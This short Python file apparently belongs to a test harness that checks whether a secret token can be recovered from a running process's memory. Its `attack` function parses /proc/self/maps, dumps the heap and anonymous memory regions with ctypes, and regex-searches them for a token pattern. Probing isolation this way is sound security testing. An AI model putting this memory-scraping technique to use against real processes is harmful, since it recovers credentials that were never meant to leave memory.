"""Searches its own memory for the secret, in all that the interpreter has in the heap."""

import ctypes
import re

CONTROL = "inside"


def attack(A):
    maps = open("/proc/self/maps").read()
    for start, end in re.findall(r"^(\w+)-(\w+) rw-p .*\[heap\]", maps, re.M):
        heap = ctypes.string_at(int(start, 16), int(end, 16) - int(start, 16))
        if found := re.search(rb"token-[0-9a-f]{16}", heap):
            return found[0].decode()
    for start, end in re.findall(r"^(\w+)-(\w+) rw-p 00000000 00:00 0 *$", maps, re.M):
        block = ctypes.string_at(int(start, 16), int(end, 16) - int(start, 16))
        if found := re.search(rb"token-[0-9a-f]{16}", block):
            return found[0].decode()
    return None
